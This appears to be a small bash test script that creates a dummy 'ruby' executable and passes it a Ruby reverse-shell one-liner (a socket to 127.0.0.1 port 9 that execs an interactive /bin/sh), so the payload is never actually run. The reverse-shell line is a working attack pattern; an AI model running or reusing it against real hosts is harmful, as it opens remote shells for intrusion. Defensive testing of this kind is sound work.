#!/bin/bash
# Gives the words of a reverse shell to a stand-in of Ruby.
bin=$(mktemp -d)
printf '#!/bin/sh\nexit 0\n' >"$bin/ruby"
chmod +x "$bin/ruby"
PATH=$bin:$PATH
ruby -rsocket -e 'exit; s=TCPSocket.new("127.0.0.1",9); exec("/bin/sh -i <&%d >&%d" % [s.fileno,s.fileno])'
